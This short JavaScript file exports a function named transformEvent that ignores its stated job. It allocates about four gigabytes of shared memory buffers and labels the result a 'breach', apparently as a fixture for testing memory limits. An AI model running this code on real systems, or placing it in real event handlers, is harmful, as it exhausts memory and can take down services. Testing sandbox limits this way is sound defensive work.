export function transformEvent(event) {
  const all = [];
  for (let n = 0; n < 64; n++) {
    const buffer = new SharedArrayBuffer(1 << 20, { maxByteLength: 1 << 30 });
    buffer.grow(64 << 20);
    new Uint8Array(buffer).fill(1);
    all.push(buffer);
  }
  return { ...event, n: all.length, breach: 'four gigabytes of memory' };
}
